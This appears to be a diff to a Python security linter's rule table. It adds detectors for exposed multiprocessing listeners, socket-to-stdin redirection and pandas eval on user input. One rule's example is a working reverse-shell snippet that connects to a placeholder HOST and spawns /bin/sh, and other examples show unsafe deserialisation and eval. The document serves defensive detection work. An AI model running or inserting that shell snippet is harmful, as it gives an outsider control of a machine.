@@ -12,6 +12,8 @@ from __future__ import annotations
 from guardrail.knowledge.python.rows import FIRST, NOWHERE, Argument, Row, RunsCode
 
 TEMPLATE = "a template"
+MESSAGE = "a serialised object from a message"
+SHELL = "a shell for whoever is at the other end of a connection"
 _OBJECT = "a serialised object"
 _YAML = "a YAML document that may name any object"
 _UNSAFE = tuple(
@@ -141,9 +143,43 @@ ROWS: tuple[Row, ...] = (
         ),
     ),
     RunsCode(
+        names=("multiprocessing.connection.Listener", "multiprocessing.managers.BaseManager"),
+        code=NOWHERE,
+        what=MESSAGE,
+        always=True,
+        when=((Argument(0, "address"), (r"~~^\(\s*[\"'](?:0\.0\.0\.0)?[\"']\s*,",)),),
+        beside=("multiprocessing",),
+        example=(
+            "from multiprocessing.connection import Listener\n"
+            'Listener(("0.0.0.0", 6000), authkey=b"shop")'
+        ),
+    ),
+    RunsCode(
+        names=("os.dup2",),
+        code=Argument(0, "fd"),
+        what=SHELL,
+        always=True,
+        when=(
+            (Argument(0, "fd"), (r"~~\b_?(?:s|sock|conn|client|peer)\w*\.fileno\(\)$",)),
+            (Argument(1, "fd2"), (r"~~^(?:0|sys\.stdin\.fileno\(\)|[a-z]\w*)$",)),
+        ),
+        beside=("pty", "/bin/sh", "/bin/bash", "cmd.exe"),
+        example=(
+            "import os, pty, socket\nsock = socket.create_connection((HOST, 4443))\n"
+            'os.dup2(sock.fileno(), 0)\npty.spawn("/bin/sh")'
+        ),
+    ),
+    RunsCode(
+        names=(".query", ".eval"),
+        code=Argument(0, "expr"),
+        what="an expression of pandas, which reaches any object,",
+        beside=("pandas",),
+        example="import pandas\nframe.query(request.args['filter'], engine='python')",
+    ),
+    RunsCode(
         names=(".recv_pyobj",),
         code=NOWHERE,
-        what="a serialised object from a message",
+        what=MESSAGE,
         always=True,
         beside=("zmq",),
         example="import zmq\nsocket = zmq.Context().socket(zmq.PULL)\njob = socket.recv_pyobj()",
